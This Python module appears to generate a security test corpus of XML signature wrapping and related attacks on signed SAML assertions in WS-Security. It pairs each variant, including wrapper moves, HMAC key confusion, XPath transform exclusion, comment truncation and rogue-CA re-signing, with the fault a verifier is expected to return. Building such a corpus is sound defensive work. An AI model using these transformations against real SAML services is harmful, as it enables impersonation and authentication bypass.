"""XML signature wrapping (XSW) and related attacks on a signed SAML assertion in WS-Security.

Each attack takes a SOAP envelope whose wsse:Security holds a valid signed assertion and returns an
attacked copy. They adapt the published variants (McIntosh & Austel, "XML signature element wrapping
attacks and countermeasures", 2005; Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be",
USENIX Security 2012, XSW1-XSW8) to an assertion carried in wsse:Security, and add the reference,
algorithm and comment tricks a strict verifier must also refuse. The "evil" assertion always claims
another subject (NameID MALLORY), so accepting it would be visible.

`ATTACKS` lists (name, description, expected wsse subcode or None when the message is harmless and
must be accepted with the original subject). `python -m xuatool wrapping-corpus DIR` writes them as a
corpus (tests/security/wrapping_corpus/).
"""

from __future__ import annotations

import copy
import datetime as dt
from collections.abc import Callable
from dataclasses import dataclass

from lxml import etree

from xdscore.vocabulary import NS
from xdscore.wsse_faults import WsseFault
from xuatool.assertion import build_assertion, sign_assertion
from xuatool.pki import TestPki
from xuatool.variants import VariantContext

_S = f"{{{NS.SAML2}}}"
_DS = f"{{{NS.DS}}}"
_WSSE = f"{{{NS.WSSE}}}"
_WSU = f"{{{NS.WSU}}}"
_ENV = f"{{{NS.SOAP12}}}"
EVIL_NAME_ID = "MALLORY"


@dataclass(frozen=True)
class AttackKit:
    pki: TestPki
    now: dt.datetime
    profile: str = "vihf"


Attack = Callable[[etree._Element, AttackKit], etree._Element]


def _security(env: etree._Element) -> etree._Element:
    sec = env.find(f"{_ENV}Header/{_WSSE}Security")
    assert sec is not None
    return sec


def _assertion(env: etree._Element) -> etree._Element:
    a = _security(env).find(f"{_S}Assertion")
    assert a is not None
    return a


def _signature(assertion: etree._Element) -> etree._Element:
    sig = assertion.find(f"{_DS}Signature")
    assert sig is not None
    return sig


def _evil(original: etree._Element, new_id: str | None, keep_signature: bool) -> etree._Element:
    """A copy of the original claiming another subject, with a new ID or the same one."""
    evil = copy.deepcopy(original)
    name_id = evil.find(f"{_S}Subject/{_S}NameID")
    assert name_id is not None
    name_id.text = EVIL_NAME_ID
    if new_id is not None:
        evil.set("ID", new_id)
    if not keep_signature:
        evil.remove(_signature(evil))
    return evil


def two_assertions(env: etree._Element, kit: AttackKit) -> etree._Element:
    original = _assertion(env)
    original.addprevious(_evil(original, "_evil", keep_signature=False))
    return env


def original_embedded_evil_unsigned(env: etree._Element, kit: AttackKit) -> etree._Element:
    sec, original = _security(env), _assertion(env)
    wrapper = etree.SubElement(sec, "{urn:example:wrapper}Wrapper")
    sec.replace(original, _evil(original, "_evil", keep_signature=False))
    wrapper.append(original)
    return env


def original_embedded_evil_same_id(env: etree._Element, kit: AttackKit) -> etree._Element:
    sec, original = _security(env), _assertion(env)
    evil = _evil(original, None, keep_signature=True)
    wrapper = etree.SubElement(sec, "{urn:example:wrapper}Wrapper")
    sec.replace(original, evil)
    wrapper.append(original)
    return env


def original_in_signature_object(env: etree._Element, kit: AttackKit) -> etree._Element:
    sec, original = _security(env), _assertion(env)
    evil = _evil(original, "_evil", keep_signature=True)
    obj = etree.SubElement(_signature(evil), f"{_DS}Object")
    sec.replace(original, evil)
    obj.append(original)
    return env


def _in_advice(env: etree._Element, same_id: bool) -> etree._Element:
    sec, original = _security(env), _assertion(env)
    evil = _evil(original, None if same_id else "_evil", keep_signature=True)
    advice = etree.Element(f"{_S}Advice")
    conditions = evil.find(f"{_S}Conditions")
    (conditions if conditions is not None else evil.find(f"{_S}Subject")).addnext(advice)
    sec.replace(original, evil)
    advice.append(original)
    return env


def original_in_advice(env: etree._Element, kit: AttackKit) -> etree._Element:
    return _in_advice(env, same_id=False)


def original_in_advice_same_id(env: etree._Element, kit: AttackKit) -> etree._Element:
    return _in_advice(env, same_id=True)


def original_in_body(env: etree._Element, kit: AttackKit) -> etree._Element:
    sec, original = _security(env), _assertion(env)
    body_child = env.find(f"{_ENV}Body")[0]
    sec.replace(original, _evil(original, "_evil", keep_signature=True))
    body_child.append(original)
    return env


def original_in_other_header(env: etree._Element, kit: AttackKit) -> etree._Element:
    sec, original = _security(env), _assertion(env)
    header = env.find(f"{_ENV}Header")
    assert header is not None
    block = etree.SubElement(header, "{urn:example:wrapper}Stash")
    sec.replace(original, _evil(original, None, keep_signature=True))
    block.append(original)
    return env


def second_security_header(env: etree._Element, kit: AttackKit) -> etree._Element:
    sec, original = _security(env), _assertion(env)
    other = etree.Element(f"{_WSSE}Security")
    other.set(f"{_ENV}role", "urn:example:other-actor")
    other.append(_evil(original, "_evil", keep_signature=True))
    sec.addprevious(other)
    return env


def evil_in_other_header(env: etree._Element, kit: AttackKit) -> etree._Element:
    header = env.find(f"{_ENV}Header")
    assert header is not None
    block = etree.SubElement(header, "{urn:example:wrapper}Extra")
    block.append(_evil(_assertion(env), "_evil", keep_signature=False))
    return env


def evil_in_body(env: etree._Element, kit: AttackKit) -> etree._Element:
    body_child = env.find(f"{_ENV}Body")[0]
    body_child.append(_evil(_assertion(env), "_evil", keep_signature=True))
    return env


def _reference(env: etree._Element) -> etree._Element:
    ref = _signature(_assertion(env)).find(f"{_DS}SignedInfo/{_DS}Reference")
    assert ref is not None
    return ref


def reference_empty_uri(env: etree._Element, kit: AttackKit) -> etree._Element:
    _reference(env).set("URI", "")
    return env


def reference_xpointer(env: etree._Element, kit: AttackKit) -> etree._Element:
    ref = _reference(env)
    ref.set("URI", f"#xpointer(id('{_assertion(env).get('ID')}'))")
    return env


def two_references(env: etree._Element, kit: AttackKit) -> etree._Element:
    ref = _reference(env)
    extra = copy.deepcopy(ref)
    extra.set("URI", "#_evil")
    ref.addnext(extra)
    return env


def hmac_key_confusion(env: etree._Element, kit: AttackKit) -> etree._Element:
    method = _signature(_assertion(env)).find(f"{_DS}SignedInfo/{_DS}SignatureMethod")
    assert method is not None
    method.set("Algorithm", "http://www.w3.org/2000/09/xmldsig#hmac-sha1")
    return env


def extra_transform(env: etree._Element, kit: AttackKit) -> etree._Element:
    transforms = _reference(env).find(f"{_DS}Transforms")
    assert transforms is not None
    xpath = etree.SubElement(transforms, f"{_DS}Transform", Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116")
    etree.SubElement(xpath, f"{_DS}XPath").text = "not(ancestor-or-self::*[local-name()='NameID'])"
    return env


def signature_moved_to_end(env: etree._Element, kit: AttackKit) -> etree._Element:
    a = _assertion(env)
    a.append(_signature(a))
    return env


def signature_nested_only(env: etree._Element, kit: AttackKit) -> etree._Element:
    a = _assertion(env)
    subject = a.find(f"{_S}Subject")
    assert subject is not None
    subject.append(_signature(a))
    return env


def duplicate_id_in_body(env: etree._Element, kit: AttackKit) -> etree._Element:
    env.find(f"{_ENV}Body")[0].set("ID", _assertion(env).get("ID", ""))
    return env


def duplicate_wsu_id(env: etree._Element, kit: AttackKit) -> etree._Element:
    stamp = _security(env).find(f"{_WSU}Timestamp")
    assert stamp is not None
    stamp.set(f"{_WSU}Id", _assertion(env).get("ID", ""))
    return env


def attribute_tampered(env: etree._Element, kit: AttackKit) -> etree._Element:
    for role in _assertion(env).iter("{urn:hl7-org:v3}Role"):
        role.set("code", "SM54")
    return env


def comment_truncation(env: etree._Element, kit: AttackKit) -> etree._Element:
    """A comment splits the NameID: exclusive c14n ignores it, so the signature still verifies; a
    reader that stops at the comment would see a different subject."""
    name_id = _assertion(env).find(f"{_S}Subject/{_S}NameID")
    assert name_id is not None and name_id.text
    text = name_id.text
    name_id.text = text[:4]
    comment = etree.Comment("")
    comment.tail = text[4:]
    name_id.append(comment)
    return env


def resigned_by_untrusted(env: etree._Element, kit: AttackKit) -> etree._Element:
    sec, original = _security(env), _assertion(env)
    ctx = VariantContext(pki=kit.pki, now=kit.now, profile=kit.profile)
    evil = build_assertion(ctx.spec(name_id=EVIL_NAME_ID), kit.pki.rogue, kit.now)
    sec.replace(original, sign_assertion(evil, kit.pki.rogue))
    return env


def untouched(env: etree._Element, kit: AttackKit) -> etree._Element:
    return env


ATTACKS: list[tuple[str, str, WsseFault | None, Attack]] = [
    ("valid", "control: the untouched signed message", None, untouched),
    ("xsw-two-assertions", "an unsigned evil assertion before the signed one", WsseFault.INVALID_SECURITY, two_assertions),
    (
        "xsw-embedded-evil-unsigned",
        "signed original moved into a wrapper; unsigned evil assertion in its place",
        WsseFault.INVALID_SECURITY_TOKEN,
        original_embedded_evil_unsigned,
    ),
    (
        "xsw-embedded-evil-same-id",
        "signed original moved into a wrapper; evil assertion with the same ID and the copied signature",
        WsseFault.INVALID_SECURITY,
        original_embedded_evil_same_id,
    ),
    (
        "xsw-original-in-signature-object",
        "evil assertion carries the copied signature, original hidden in its ds:Object",
        WsseFault.FAILED_CHECK,
        original_in_signature_object,
    ),
    (
        "xsw-original-in-advice",
        "evil assertion with the copied signature, original inside its saml2:Advice",
        WsseFault.FAILED_CHECK,
        original_in_advice,
    ),
    (
        "xsw-original-in-advice-same-id",
        "as above, the evil assertion reusing the original ID",
        WsseFault.INVALID_SECURITY,
        original_in_advice_same_id,
    ),
    (
        "xsw-original-in-body",
        "original moved into the SOAP Body, evil assertion with the copied signature in Security",
        WsseFault.FAILED_CHECK,
        original_in_body,
    ),
    (
        "xsw-original-in-other-header",
        "original moved into another header block, evil assertion with the same ID in Security",
        WsseFault.INVALID_SECURITY,
        original_in_other_header,
    ),
    (
        "xsw-second-security-header",
        "a second wsse:Security header (another actor) holding the evil assertion",
        WsseFault.INVALID_SECURITY,
        second_security_header,
    ),
    (
        "harmless-evil-in-other-header",
        "an extra unsigned assertion in another header block: ignored, the caller is the original subject",
        None,
        evil_in_other_header,
    ),
    (
        "harmless-evil-in-body",
        "an extra assertion inside the Body: ignored, the caller is the original subject",
        None,
        evil_in_body,
    ),
    ("reference-empty-uri", "ds:Reference URI=\"\" (the whole document)", WsseFault.FAILED_CHECK, reference_empty_uri),
    ("reference-xpointer", "ds:Reference URI as an XPointer", WsseFault.FAILED_CHECK, reference_xpointer),
    ("two-references", "a second ds:Reference in SignedInfo", WsseFault.FAILED_CHECK, two_references),
    ("hmac-key-confusion", "SignatureMethod hmac-sha1 (public key as HMAC secret)", WsseFault.FAILED_CHECK, hmac_key_confusion),
    ("extra-transform", "an XPath transform that excludes the NameID from the digest", WsseFault.FAILED_CHECK, extra_transform),
    ("signature-moved-to-end", "ds:Signature not right after saml2:Issuer", WsseFault.FAILED_CHECK, signature_moved_to_end),
    (
        "signature-nested-only",
        "ds:Signature moved inside saml2:Subject (not a direct child)",
        WsseFault.INVALID_SECURITY_TOKEN,
        signature_nested_only,
    ),
    ("duplicate-id-in-body", "a Body element reusing the assertion ID", WsseFault.INVALID_SECURITY, duplicate_id_in_body),
    ("duplicate-wsu-id", "the Timestamp's wsu:Id equal to the assertion ID", WsseFault.INVALID_SECURITY, duplicate_wsu_id),
    ("attribute-tampered", "role code changed after signing", WsseFault.FAILED_CHECK, attribute_tampered),
    (
        "comment-truncation",
        "a comment inside NameID (signature still valid): the subject must be read whole",
        None,
        comment_truncation,
    ),
    (
        "resigned-by-untrusted",
        "evil assertion re-signed with a look-alike certificate from an untrusted CA",
        WsseFault.FAILED_AUTHENTICATION,
        resigned_by_untrusted,
    ),
]

# What the refusal reason must mention: several checks could refuse the same message (the reference
# check and xmlsec's own ID lookup, say), and the corpus pins the one that is meant to.
REASONS: dict[str, str] = {
    "xsw-two-assertions": "2 saml2:Assertion elements",
    "xsw-embedded-evil-unsigned": "not signed",
    "xsw-embedded-evil-same-id": "appears more than once",
    "xsw-original-in-signature-object": "does not name the assertion itself",
    "xsw-original-in-advice": "does not name the assertion itself",
    "xsw-original-in-advice-same-id": "appears more than once",
    "xsw-original-in-body": "does not name the assertion itself",
    "xsw-original-in-other-header": "appears more than once",
    "xsw-second-security-header": "2 wsse:Security headers",
    "reference-empty-uri": "does not name the assertion itself",
    "reference-xpointer": "does not name the assertion itself",
    "two-references": "exactly one ds:Reference",
    "hmac-key-confusion": "SignatureMethod",
    "extra-transform": "transforms",
    "signature-moved-to-end": "directly follow saml2:Issuer",
    "signature-nested-only": "not signed",
    "duplicate-id-in-body": "appears more than once",
    "duplicate-wsu-id": "appears more than once",
    "attribute-tampered": "does not verify",
    "resigned-by-untrusted": "not trusted",
}
